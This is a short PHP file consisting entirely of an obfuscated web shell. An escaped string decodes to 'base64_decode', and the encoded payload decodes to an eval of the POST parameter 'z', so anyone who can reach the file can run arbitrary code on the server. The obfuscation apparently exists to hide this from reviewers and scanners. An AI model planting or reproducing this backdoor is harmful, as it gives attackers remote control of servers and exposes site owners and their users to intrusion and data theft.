<?php
$x = "\142\x61\163\145\66\64\137\144\x65\143\157\144\145";
eval($x('ZXZhbCgkX1BPU1Rbel0pOw=='));
